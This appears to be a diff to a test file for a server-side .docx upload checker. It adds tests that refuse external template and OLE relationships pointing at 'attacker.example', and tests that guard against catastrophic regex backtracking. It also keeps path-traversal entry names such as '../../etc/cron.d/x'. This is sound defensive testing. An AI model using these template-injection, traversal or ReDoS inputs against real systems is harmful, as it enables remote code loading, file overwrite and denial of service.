@@ -3,7 +3,10 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { constants, deflateRawSync } from 'node:zlib';
 import * as CFB from 'cfb';
+import { LINEAR_GROWTH, workGrowth } from '../../../../shared/src/testing/workGrowth';
 import { zip, type ZipEntry } from '../../testing/zipFixture';
+import { isExecutableName } from './containerRules';
+import { xmlTags } from './docxCheck';
 import { acceptedKinds, checkContainer, detectFileKind, detectKind, kindOfName, zipEntryNames } from './fileContent';
 
 /** A minimal zip (stored entries, no data) with these entry names: enough for the central directory. */
@@ -203,6 +206,31 @@ describe('checkContainer: .docx', () => {
     await expect(checkContainer(file(docx([{ name: '../../etc/cron.d/x', data: DOCUMENT }])), 'docx')).resolves.toMatch(/invalid relative path/);
     await expect(checkContainer(file(docx([{ name: '/etc/passwd', data: DOCUMENT }])), 'docx')).resolves.toMatch(/absolute path/);
     await expect(checkContainer(file(docx([{ name: 'WORD/document.xml', data: DOCUMENT }])), 'docx')).resolves.toMatch(/duplicate entry/);
+  });
+
+  test('only hyperlinks may point outside the package: an external template or OLE link is refused', async () => {
+    const rels = (type: string) =>
+      Buffer.from(
+        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
+          `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="http://attacker.example/x" TargetMode="External"/></Relationships>`,
+      );
+    const template = docx([{ name: 'word/_rels/settings.xml.rels', data: rels('attachedTemplate') }]);
+    await expect(checkContainer(file(template), 'docx')).resolves.toMatch(/external attachedTemplate in word\/_rels\/settings\.xml\.rels/);
+    const ole = docx([{ name: 'word/_rels/document.xml.rels', data: rels('oleObject') }]);
+    await expect(checkContainer(file(ole), 'docx')).resolves.toMatch(/external oleObject/);
+    const link = docx([{ name: 'word/_rels/document.xml.rels', data: rels('hyperlink') }]);
+    await expect(checkContainer(file(link), 'docx')).resolves.toBeNull();
+  });
+
+  test('reading content types and entry names does linear work on hostile text (they backtracked quadratically)', () => {
+    // A long run of letters in a tag, unclosed tags, and an entry name of dots: 500 bytes held the server 13 s.
+    expect(workGrowth((xml) => xmlTags(xml), (n) => `<Default ${'a'.repeat(n)}>`)).toBeLessThan(LINEAR_GROWTH);
+    expect(workGrowth((xml) => xmlTags(xml), (n) => '<Default '.repeat(n / 9))).toBeLessThan(LINEAR_GROWTH);
+    expect(workGrowth((name) => isExecutableName(name), (n) => `${'.'.repeat(n)}x`)).toBeLessThan(LINEAR_GROWTH);
+    expect(xmlTags(`<Override PartName='/word/document.xml' ContentType="${'x'}"/><Default a=1 b = "2">`)).toEqual([
+      { name: 'Override', attributes: { PartName: '/word/document.xml', ContentType: 'x' } },
+      { name: 'Default', attributes: { b: '2' } },
+    ]);
   });
 
   test('a corrupted entry fails its CRC', async () => {
